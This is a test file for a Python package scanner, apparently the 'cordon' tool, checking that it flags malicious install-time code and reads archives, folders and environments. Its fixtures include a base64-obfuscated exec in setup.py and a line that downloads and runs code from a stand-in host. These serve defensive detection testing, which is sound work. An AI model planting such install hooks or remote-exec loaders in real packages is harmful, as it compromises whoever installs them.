import assert from 'node:assert/strict'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import type { ArtifactInspection } from '@cordon/model'
import { temporaryFolder, writeZip } from '@cordon/testkit'
import { looseFiles, ownedFiles } from '../../src/artifact/environment.ts'
import { readFolder } from '../../src/artifact/folder.ts'
import {
  artifactOutcomes,
  compareArtifacts,
  findSitePackages,
  inspectArtifact,
  inspectionOfArtifact,
  mergeOutcomes,
  rulesVersion,
} from '../../src/artifact/index.ts'

const code = Buffer.from('import os; os.system("true # https://drop.example.invalid/x")').toString('base64')
const hidden = `import base64\nexec(base64.b64decode("${code}"))\n`

function inspected(files: Readonly<Record<string, string>>, filename = 'demo-1.0.zip'): ArtifactInspection {
  const bytes = writeZip(Object.entries(files).map(([name, data]) => ({ name, data })))
  return inspectArtifact(bytes, {
    file: filename,
    filename,
    sha256: '00'.repeat(32),
    size: bytes.length,
    clock: () => 0,
  })
}

const setup = 'from setuptools import setup\nsetup(name="demo", version="1.0")\n'

test('what runs when a package is installed is told with its stage, place and decoded text', () => {
  const found = inspected({ 'demo-1.0/setup.py': `${hidden}${setup}`, 'demo-1.0/demo/__init__.py': '' })
  assert.deepEqual([found.name, found.version, found.verdict, found.facts.kind], ['demo', '1.0', 'malicious', 'sdist'])
  const [first] = found.behaviours
  assert.ok(first !== undefined)
  assert.deepEqual(
    [first.id, first.stage, first.at.path, first.at.line],
    ['source/exec-of-decoded', 'install', 'demo-1.0/setup.py', 2],
  )
  assert.match(first.evidence, /hxxps\[:\/\/\]drop\[\.\]example\[\.\]invalid/)
  assert.equal(new Set(found.behaviours.map(({ id }) => id)).size, found.behaviours.length, 'each behaviour once')
})

test('the same code without the hidden part is neither malicious nor suspicious', () => {
  const found = inspected({ 'demo-1.0/setup.py': setup, 'demo-1.0/demo/__init__.py': 'def f():\n    return 1\n' })
  assert.ok(found.verdict === 'clean' || found.verdict === 'placeholder', found.verdict)
  assert.ok(found.behaviours.every(({ confidence }) => confidence === 'low'))
})

test('bytes that are no archive are unanalysable, never an error', () => {
  for (const bytes of [Buffer.alloc(0), Buffer.from('PK'), Buffer.from('hello')]) {
    const found = inspectArtifact(bytes, {
      file: 'demo-1.0-py3-none-any.whl',
      filename: 'demo-1.0-py3-none-any.whl',
      sha256: '',
      size: bytes.length,
      clock: () => 0,
    })
    assert.deepEqual([found.verdict, found.name, found.unanalysed[0]?.code], ['unanalysable', 'demo', 'NOT_AN_ARCHIVE'])
  }
})

test('what is new since the release before is named first and raises the verdict', () => {
  const before = inspected({ 'demo-1.0/setup.py': setup, 'demo-1.0/demo/__init__.py': 'X = 1\n' })
  const now = inspected({
    'demo-1.0/setup.py': setup,
    'demo-1.0/demo/__init__.py': 'import subprocess\nsubprocess.Popen(["sh", "-c", "true"])\n',
  })
  const found = compareArtifacts({ ...now, verdict: 'clean' }, before)
  assert.ok(found.comparison !== undefined)
  assert.deepEqual(
    found.comparison.appeared,
    now.behaviours.map(({ id }) => id),
  )
  assert.ok(now.behaviours.length > 0, 'the toy does something')
  assert.equal(found.comparison.against.verdict, before.verdict)
  const same = compareArtifacts(now, now)
  assert.deepEqual([same.verdict, same.comparison?.appeared, same.comparison?.raisedFrom], [now.verdict, [], null])
})

test('a behaviour that moved to an earlier stage is told with the stage of before', () => {
  const found = inspected({ 'demo-1.0/setup.py': `${hidden}${setup}` })
  const late = found.behaviours.map((each) => ({ ...each, stage: 'call' as const }))
  const { comparison } = compareArtifacts(found, { ...found, behaviours: late })
  assert.ok(comparison?.earlier.some(({ id, before }) => id === 'source/exec-of-decoded' && before === 'call'))
})

test('outcomes: behaviours of the bad, unknown for what cannot be read, and both when they are merged', () => {
  const bad = inspected({ 'demo-1.0/setup.py': `${hidden}${setup}` })
  const { dependency, outcomes } = inspectionOfArtifact(bad)
  assert.equal(dependency?.name, 'demo')
  const outcome = outcomes.get('source/exec-of-decoded')
  assert.ok(outcome?.kind === 'found')
  const [finding] = outcome.findings
  assert.deepEqual(finding.artifact, { file: 'demo-1.0.zip', sha256: '00'.repeat(32), verdict: 'malicious' })
  assert.equal(finding.severity, 'critical')
  const unread = artifactOutcomes({ ...bad, verdict: 'unanalysable', behaviours: [] })
  assert.equal(unread.get('artifact/verdict')?.kind, 'unknown')
  const both = mergeOutcomes([outcomes, unread])
  assert.deepEqual([both.get('source/exec-of-decoded')?.kind, both.get('artifact/verdict')?.kind], ['found', 'unknown'])
})

test('a folder: links are not followed, environments and version control are passed over and said so', (t) => {
  const root = temporaryFolder(t)
  for (const folder of ['.git', 'venv', 'pkg']) mkdirSync(join(root, folder))
  writeFileSync(join(root, '.git', 'hook.py'), '')
  writeFileSync(join(root, 'venv', 'pyvenv.cfg'), '')
  writeFileSync(join(root, 'pkg', '__init__.py'), 'X = 1\n')
  symlinkSync('/', join(root, 'pkg', 'everything'))
  const { files, passedOver } = readFolder(root)
  assert.deepEqual(
    files.map(({ path, link }) => [path, link ?? null]),
    [
      ['pkg/__init__.py', null],
      ['pkg/everything', '/'],
    ],
  )
  assert.deepEqual(
    passedOver.map(({ at, code: why }) => `${at.path} ${why}`),
    ['.git PASSED_OVER', 'venv PASSED_OVER'],
  )
})

test('an environment: files by RECORD, scripts beside it, nothing beyond it, and what no package owns', (t) => {
  const root = temporaryFolder(t)
  const site = join(root, 'lib', 'python3.12', 'site-packages')
  mkdirSync(join(site, 'demo', '__pycache__'), { recursive: true })
  mkdirSync(join(site, 'demo-1.0.dist-info'))
  mkdirSync(join(root, 'bin'))
  const put = (path: string, text = ''): void => writeFileSync(join(site, path), text)
  writeFileSync(join(root, 'pyvenv.cfg'), '')
  writeFileSync(join(root, 'bin', 'demo'), '')
  put('demo/__init__.py')
  put('demo/__pycache__/__init__.cpython-312.pyc')
  put('stray.pth', 'import stray\n')
  const record = ['demo/__init__.py,sha256=x,0', '"../../../bin/demo",,', '../../../../outside,,', 'gone.py,,']
  put('demo-1.0.dist-info/RECORD', record.join('\r\n'))
  const [found] = findSitePackages(root, { env: {}, cwd: '/' })
  assert.equal(found, site)
  const owned = ownedFiles(site, 'demo-1.0.dist-info')
  assert.deepEqual(
    owned.files.map(({ path }) => path),
    ['demo/__init__.py', 'demo-1.0.data/bin/demo'],
  )
  assert.deepEqual(
    owned.passedOver.map(({ code: why }) => why),
    ['OUTSIDE'],
  )
  const loose = looseFiles(site).files.map(({ path }) => path)
  assert.ok(loose.includes('stray.pth') && !loose.includes('demo/__pycache__/__init__.cpython-312.pyc'))
  assert.throws(() => findSitePackages(join(root, 'bin'), { env: {}, cwd: '/' }), { code: 'NO_TARGET' })
})

test('the version of the rules is a digest that stays the same within one program', () => {
  assert.match(rulesVersion(), /^[0-9a-f]{32}$/)
  assert.equal(rulesVersion(), rulesVersion())
})

test('of files that share a path each is looked at: installers differ in which they keep', () => {
  const clean = 'X = 1\n'
  const fetched = 'import urllib.request\nexec(urllib.request.urlopen("https://drop.example.invalid/x").read())\n'
  for (const bodies of [
    [fetched, clean],
    [clean, fetched],
    [clean, fetched, clean],
  ]) {
    const bytes = writeZip([
      { name: 'demo-1.0/setup.py', data: setup },
      ...bodies.map((data) => ({ name: 'demo-1.0/shop/__init__.py', data })),
    ])
    const identity = { file: 'demo-1.0.zip', filename: 'demo-1.0.zip', sha256: '', size: bytes.length, clock: () => 0 }
    assert.equal(inspectArtifact(bytes, identity).verdict, 'malicious')
  }
})

test('few native files are read for what they ask of the system and name', () => {
  const native = process.execPath
  const found = inspectMembersOf([
    { path: 'demo/__init__.py', bytes: Buffer.from('from . import core\n') },
    { path: 'demo/core.so', bytes: readFileSync(native).subarray(0, 4_000_000) },
  ])
  assert.deepEqual(
    found.facts.binaries.map(({ path, format }) => [path, format]),
    [['demo-1.0/demo/core.so', 'elf']],
  )
  assert.ok((found.facts.binaries[0]?.architecture ?? '') !== '')
})

function inspectMembersOf(files: readonly { readonly path: string; readonly bytes: Uint8Array }[]): ArtifactInspection {
  const bytes = writeZip(files.map(({ path, bytes: data }) => ({ name: `demo-1.0/${path}`, data })))
  return inspectArtifact(bytes, {
    file: 'demo-1.0.zip',
    filename: 'demo-1.0.zip',
    sha256: '',
    size: bytes.length,
    clock: () => 0,
  })
}
